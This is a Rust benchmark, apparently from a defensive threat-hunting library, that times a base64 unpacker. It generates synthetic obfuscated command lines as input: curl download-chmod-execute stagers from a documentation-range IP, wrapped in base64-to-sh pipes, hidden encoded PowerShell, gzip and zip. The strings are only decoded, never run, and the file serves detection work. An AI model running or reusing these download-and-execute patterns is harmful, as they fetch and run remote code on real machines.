//! Times base64 unpacking of generated command lines: plain base64 text, PowerShell UTF-16
//! `-enc`, gzip and zip payloads, and lines with no base64 at all.
//!
//! `cargo run --release -p huntbook-analysis --example b64_speed -- [strings]` (default 10000).

// An example reports its timings on stdout.
#![allow(clippy::print_stdout)]

use std::error::Error;
use std::io::{Cursor, Write};
use std::time::Instant;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use huntbook_analysis::b64::{B64Unpacker, UnpackOptions};
use polars::prelude::*;

/// SplitMix64, so runs are repeatable without extra crates.
struct SplitMix(u64);

impl SplitMix {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
}

fn payload(rng: &mut SplitMix) -> String {
    format!(
        "curl -s http://203.0.113.{}/stage{}.sh -o /tmp/s{}; chmod +x /tmp/s{}; /tmp/s{} --id {}",
        rng.next() % 255,
        rng.next() % 100,
        rng.next() % 1000,
        rng.next() % 1000,
        rng.next() % 1000,
        rng.next()
    )
}

fn gzip(data: &[u8]) -> Result<Vec<u8>, Box<dyn Error>> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(data)?;
    Ok(enc.finish()?)
}

fn zip_bytes(data: &[u8]) -> Result<Vec<u8>, Box<dyn Error>> {
    let mut writer = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
    writer.start_file("stage.txt", ::zip::write::SimpleFileOptions::default())?;
    writer.write_all(data)?;
    Ok(writer.finish()?.into_inner())
}

fn generate(count: usize) -> Result<Vec<String>, Box<dyn Error>> {
    let mut rng = SplitMix(42);
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let text = payload(&mut rng);
        let line = match i % 5 {
            0 => format!(
                "bash -c \"echo {} | base64 -d | sh\"",
                STANDARD.encode(&text)
            ),
            1 => {
                let utf16: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
                format!(
                    "powershell.exe -nop -w hidden -enc {}",
                    STANDARD.encode(utf16)
                )
            }
            2 => format!(
                "echo {} | base64 -d | gunzip | sh",
                STANDARD.encode(gzip(text.as_bytes())?)
            ),
            3 => format!("data={}", STANDARD.encode(zip_bytes(text.as_bytes())?)),
            _ => format!(
                "/usr/bin/rsync -az /var/www/ backup@10.0.0.{}:/srv/backup/ --delete",
                i % 255
            ),
        };
        out.push(line);
    }
    Ok(out)
}

fn main() -> Result<(), Box<dyn Error>> {
    let count: usize = std::env::args()
        .nth(1)
        .map(|a| a.parse())
        .transpose()?
        .unwrap_or(10_000);
    let strings = generate(count)?;
    let unpacker = B64Unpacker::new(UnpackOptions::default());

    let start = Instant::now();
    let nodes: usize = strings.iter().map(|s| unpacker.unpack(s).len()).sum();
    let secs = start.elapsed().as_secs_f64();
    println!(
        "unpack:       {count} strings, {nodes} nodes in {secs:.3} s = {:.0} strings/s",
        count as f64 / secs
    );

    let frame = DataFrame::new(count, vec![Column::new("cmd".into(), &strings)])?;
    let start = Instant::now();
    let out = unpacker.unpack_frame(&frame, "cmd")?;
    let secs = start.elapsed().as_secs_f64();
    println!(
        "unpack_frame: {count} rows -> {} rows in {secs:.3} s = {:.0} strings/s",
        out.height(),
        count as f64 / secs
    );
    Ok(())
}
